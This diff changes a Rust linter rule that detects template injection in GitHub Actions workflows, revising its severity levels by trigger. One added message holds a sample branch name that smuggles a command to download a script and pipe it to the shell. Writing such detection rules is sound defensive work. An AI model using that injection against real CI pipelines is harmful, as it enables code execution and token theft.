@@ -32,9 +32,13 @@ a fork's branch name — anyone can run commands in the job. On `pull_request_ta
 write token, so this is a full compromise. Passing the value through an environment
 variable makes it data: the shell expands `"$TITLE"` without interpreting it.
 
-Severity follows the trigger: critical on events outsiders start with secrets, medium
-on `push`/`workflow_dispatch`/`release`, low on `pull_request` (the fork's author
-already controls the code being built). `inputs.*` are low (the caller chooses them);
+Severity follows the trigger: critical on events outsiders start with secrets
+(`pull_request_target`, `issue_comment`, `issues`, `workflow_run`, …), high in reusable
+workflows (their callers may run them on such events), medium in composite actions,
+low on `push`/`workflow_dispatch`/`release` (the value comes from someone who could push
+or merge) and on `pull_request` (the fork's author already controls the code being
+built). `inputs.*` and branch/tag names (`github.ref_name`, `github.base_ref`) are low
+(whoever starts the run or pushes the ref chooses them);
 step outputs and dynamic `env`/`matrix` values are info (provenance unknown). Numbers,
 SHAs, booleans, `needs.*.result`, `steps.*.outcome`, logins and values only used in
 `if:` or compared inside the expression are not reported.
@@ -186,6 +190,11 @@ impl Rule for TemplateInjection {
                             let (s, w) = attacker_severity(site.workflow, &source);
                             (s, w, Confidence::High)
                         }
+                        Taint::Caller if !source.starts_with("inputs.") && !source.starts_with("github.event.inputs.") => (
+                            Severity::Low,
+                            "anyone who can push a branch or tag chooses its name, and a name like `a$(curl${IFS}x.sh|sh)` is valid".to_string(),
+                            Confidence::Medium,
+                        ),
                         Taint::Caller => (
                             Severity::Low,
                             "whoever starts or calls the workflow chooses it".to_string(),
